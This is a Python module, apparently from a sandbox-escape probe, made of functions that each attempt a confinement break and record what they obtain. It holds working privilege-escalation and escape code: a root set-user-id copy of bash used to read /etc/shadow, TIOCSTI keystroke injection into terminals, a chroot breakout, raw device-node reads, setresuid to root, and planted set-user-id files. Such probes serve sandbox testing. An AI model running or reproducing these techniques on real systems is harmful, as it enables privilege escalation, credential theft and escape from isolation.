"""Calls that would change the machine, or open a way to."""

import contextlib
import ctypes
import fcntl
import os
import shutil
import subprocess
from collections.abc import Callable
from typing import Any

from .loot import SECONDS, claim, loot, output, read, syscall


def call_number(arguments: list[Any]) -> None:
    """A system call by number; text is passed as a string, None as zero."""
    given = [word.encode() if isinstance(word, str) else word for word in arguments[1:]]
    syscall(arguments[0], *(ctypes.c_long(word) if isinstance(word, int) else word for word in given))
    claim(f"system call {arguments[0]}")


def call_put(arguments: list[Any]) -> None:
    path, text = arguments
    with open(path, "w") as file:
        file.write(text)
    claim(f"wrote {path}")


def call_device(arguments: list[Any]) -> None:
    path, major, minor = arguments
    os.mknod(path, 0o600 | 0o060000, os.makedev(major, minor))
    with open(path, "rb") as file:
        loot(file.read(512))
        claim(f"device {major}:{minor}")


def call_open_device(arguments: list[Any]) -> None:
    descriptor = os.open(arguments[0], os.O_RDONLY | os.O_NONBLOCK)
    loot(os.read(descriptor, 512))
    claim(f"opened {arguments[0]}")


def call_program(arguments: list[Any]) -> None:
    done = subprocess.run(arguments, capture_output=True, timeout=SECONDS, check=False)
    loot(done.stdout)
    if done.returncode == 0:
        claim(" ".join(arguments))


def call_setuid(arguments: list[Any]) -> None:
    os.setresuid(0, 0, 0)
    if os.listdir("/root") is not None:
        claim("became root")


def call_setuid_file(arguments: list[Any]) -> None:
    """A set-user-id shell in the workspace, for somebody else to run or for itself."""
    shutil.copy("/bin/bash", arguments[0])
    os.chown(arguments[0], 0, 0)
    os.chmod(arguments[0], 0o4755)
    loot(output(arguments[0], "-p", "-c", "id -u; cat /etc/shadow"))
    claim("set-user-id file")


def call_lend(arguments: list[Any]) -> None:
    """A file that lends the rights of its owner, left in the workspace for somebody else to run."""
    way, mode = arguments
    name = f"lent-{way}-{mode:o}"
    if way == "open":
        os.close(os.open(name, os.O_CREAT | os.O_WRONLY, mode))
    elif way == "mknod":
        os.mknod(name, mode | 0o100000)
    elif way == "install":
        output("install", "-m", f"{mode:o}", "/bin/true", name)
    elif way == "copy":
        output("cp", "-p", "/usr/bin/passwd", name)
    else:
        with open(name, "w") as file:
            os.chmod(file.fileno() if way == "fchmod" else name, mode)
    if os.stat(name).st_mode & 0o6000:
        claim(name)


def call_terminal(arguments: list[Any]) -> None:
    for path in (
        "/dev/tty",
        "/dev/stdin",
        "/proc/self/fd/0",
        "/proc/self/fd/1",
        "/dev/console",
        "/dev/pts/0",
        "/dev/pts/1",
    ):
        with contextlib.suppress(OSError):
            descriptor = os.open(path, os.O_RDWR | os.O_NONBLOCK | os.O_NOCTTY)
            for byte in b"escaped\n":
                fcntl.ioctl(descriptor, arguments[0], bytes([byte]))
            claim(f"TIOCSTI on {path}")


def call_chroot(arguments: list[Any]) -> None:
    os.makedirs("jail", exist_ok=True)
    above = os.open(".", os.O_RDONLY)
    os.chroot("jail")
    os.fchdir(above)
    for _ in range(40):
        os.chdir("..")
    os.chroot(".")
    claim("chroot")
    loot(read(arguments[0]))


def call_core(arguments: list[Any]) -> None:
    child = os.fork()
    if not child:
        os.abort()
    _, status = os.waitpid(child, 0)
    if os.WCOREDUMP(status):
        claim("core dump")


CALL: dict[str, Callable[[list[Any]], None]] = {
    "number": call_number,
    "put": call_put,
    "device": call_device,
    "open-device": call_open_device,
    "program": call_program,
    "setuid": call_setuid,
    "setuid-file": call_setuid_file,
    "lend": call_lend,
    "terminal": call_terminal,
    "chroot": call_chroot,
    "core": call_core,
}
